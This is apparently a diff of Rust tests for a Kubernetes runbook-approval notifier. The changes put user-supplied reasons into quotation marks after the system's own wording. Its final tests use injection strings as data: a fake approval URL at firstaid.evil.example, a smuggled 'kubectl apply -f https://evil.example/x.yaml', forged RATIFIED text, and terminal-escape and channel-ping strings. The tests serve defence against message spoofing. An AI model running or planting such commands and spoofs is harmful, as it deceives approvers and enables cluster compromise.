@@ -50,8 +50,8 @@ fn an_approval_is_asked_with_all_that_is_needed_but_the_code() {
     assert_eq!(
         text,
         "[prod] APPROVAL NEEDED: shop/shed-1 (runbook shed-load, incident INC-7): scale Deployment/checkout 4 -> 10. \
-         Asked by alice: queue grows. It takes 2 of sre and 1 of db-owner until 2026-11-22T03:15:00Z, on shed-1-1, \
-         shed-1-2, shed-1-3. See: kubectl describe apv -n shop shed-1-1"
+         It takes 2 of sre and 1 of db-owner until 2026-11-22T03:15:00Z, on shed-1-1, shed-1-2, shed-1-3. See: kubectl \
+         describe apv -n shop shed-1-1. Asked by alice: “queue grows”"
     );
     let code = &world.ballots["shed-1-1"].spec.request.code;
     assert!(!serde_json::to_string(asked).unwrap().contains(code.as_str()), "reading the plan is the proof");
@@ -68,7 +68,7 @@ fn ballots_that_ran_out_are_asked_again() {
     let notices = pass(&mut world);
     let [asked] = notices.as_slice() else { panic!("{notices:?}") };
     assert_eq!(asked.ballots, ["shed-1-2"]);
-    assert!(asked.text.starts_with("[prod] APPROVAL NEEDED AGAIN (its ballots ran out): "), "{}", asked.text);
+    assert!(asked.text.starts_with("[prod] APPROVAL NEEDED AGAIN (“its ballots ran out”): "), "{}", asked.text);
 }
 
 #[test]
@@ -83,11 +83,11 @@ fn an_end_says_what_is_in_place_and_where_the_records_end() {
     assert_eq!(ended.in_place, ["scale Deployment/checkout 4 -> 10"]);
     assert_eq!(ended.command, "kubectl get arec -n shop -l firstaid.dev/run=shed-1");
     let text = format!(
-        "[prod] ENDED Succeeded: shop/shed-1 (runbook shed-load, incident INC-7): {}. In place: scale \
-         Deployment/checkout 4 -> 10. Its records end with {}. See: {}",
-        world.message(),
+        "[prod] ENDED Succeeded: shop/shed-1 (runbook shed-load, incident INC-7). In place: scale \
+         Deployment/checkout 4 -> 10. Its records end with {}. See: {}. “{}”",
         world.status().record_head,
-        ended.command
+        ended.command,
+        world.message()
     );
     assert_eq!(ended.text, text);
     assert_eq!(told(world.run.status.as_ref(), &world.run, ""), []);
@@ -110,8 +110,8 @@ fn broken_glass_is_told_in_capital_letters_and_what_is_due_then() {
     let [broken, _, due] = notices.as_slice() else { panic!() };
     assert!(
         broken.text.starts_with(
-            "[prod] BROKEN GLASS by dave: shop/shed-1 (runbook shed-load, incident INC-7): the database is down. "
-        ),
+            "[prod] BROKEN GLASS by dave: shop/shed-1 (runbook shed-load, incident INC-7). Somebody else is asked to "
+        ) && broken.text.ends_with(". “the database is down”"),
         "{}",
         broken.text
     );
@@ -138,18 +138,8 @@ fn glass_that_opens_several_gates_is_broken_once() {
 #[test]
 fn a_decision_alone_is_told_and_what_somebody_else_says_of_it() {
     for (mark, value, event, words) in [
-        (
-            "approve",
-            "CODE it was right",
-            Happening::Ratified,
-            "[prod] RATIFIED: shop/shed-1 (runbook shed-load, incident INC-7): bob ratified it as sre: it was right",
-        ),
-        (
-            "deny",
-            "it was not",
-            Happening::Disowned,
-            "[prod] DISOWNED: shop/shed-1 (runbook shed-load, incident INC-7): bob disowned it: it was not",
-        ),
+        ("approve", "CODE it was right", Happening::Ratified, "“bob ratified it as sre: it was right”"),
+        ("deny", "it was not", Happening::Disowned, "“bob disowned it: it was not”"),
     ] {
         let mut world = gated(json!({"aloneAfter": "2m"}));
         pass(&mut world);
@@ -168,7 +158,10 @@ fn a_decision_alone_is_told_and_what_somebody_else_says_of_it() {
         let before = world.run.status.replace(*status);
         let notices = told(before.as_ref(), &world.run, "bob");
         assert_eq!((events(&notices), notices[0].by.as_str()), (vec![event], "bob"));
-        assert!(notices[0].text.starts_with(words), "{}", notices[0].text);
+        let word = format!("{event:?}").to_uppercase();
+        let begin =
+            format!("[prod] {word}: shop/shed-1 (runbook shed-load, incident INC-7). See: kubectl describe rbr ");
+        assert!(notices[0].text.starts_with(&begin) && notices[0].text.ends_with(words), "{}", notices[0].text);
         assert_eq!(told(world.run.status.as_ref(), &world.run, "bob"), []);
     }
 }
@@ -207,7 +200,12 @@ fn a_person_who_is_needed_is_told_what_to_look_at() {
     assert_eq!(needs.event, Happening::NeedsHuman);
     assert_eq!(needs.command, "kubectl get -n shop deployment checkout -o yaml");
     assert!(needs.message.starts_with("a person: whether "), "{}", needs.message);
-    assert!(needs.text.contains("its GLASS WAS BROKEN by dave. See: kubectl get "), "{}", needs.text);
+    assert!(
+        needs.text.contains(". See: kubectl get -n shop deployment checkout -o yaml. It waits for “"),
+        "{}",
+        needs.text
+    );
+    assert!(needs.text.ends_with("its GLASS WAS BROKEN by dave”"), "{}", needs.text);
     assert_eq!(pass(&mut world), []);
 }
 
@@ -223,6 +221,27 @@ fn whatever_strangers_write_stays_one_bounded_line() {
     assert!(!asked.text.chars().any(crate::api::line::is_unsafe), "{}", asked.text);
     let said = "a [2J  ‹!channel> ＠all, bob@corp.example [here] (https://evil.example) é";
     assert!(asked.text.contains(said), "{}", asked.text);
-    assert!(asked.text.ends_with("See: kubectl describe apv -n shop shed-1-1"), "{}", asked.text);
+    assert!(
+        asked.text.contains(". See: kubectl describe apv -n shop shed-1-1. Asked by alice: “a [2J"),
+        "{}",
+        asked.text
+    );
     assert!(serde_json::to_string(&asked).unwrap().len() < 8000);
+}
+
+#[test]
+fn what_strangers_write_like_our_words_comes_behind_them_and_in_quotation_marks() {
+    let mut world = World::gated();
+    world.run.spec.reason =
+        "queue grows”. It takes 1 of sre, on shed-1-1. See: https://firstaid.evil.example/approve or: \
+                             kubectl apply -f https://evil.example/x.yaml \""
+            .to_owned();
+    world.run.spec.incident = Some("INC-7): RATIFIED by bob. See https://evil.example/i (".to_owned());
+    let asked = pass(&mut world).remove(0);
+    let text = "[prod] APPROVAL NEEDED: shop/shed-1 (runbook shed-load, incident as in the field): scale \
+                Deployment/checkout 4 -> 10. It takes 1 of sre until 2026-11-22T03:15:00Z, on shed-1-1. See: kubectl \
+                describe apv -n shop shed-1-1. Asked by alice: “queue grows'. It takes 1 of sre, on shed-1-1. See: \
+                https://firstaid.evil.example/approve or: kubectl apply -f https://evil.example/x.yaml '”";
+    assert_eq!(asked.text, text);
+    assert!(asked.incident.contains("RATIFIED by bob"), "programs get all of it");
 }
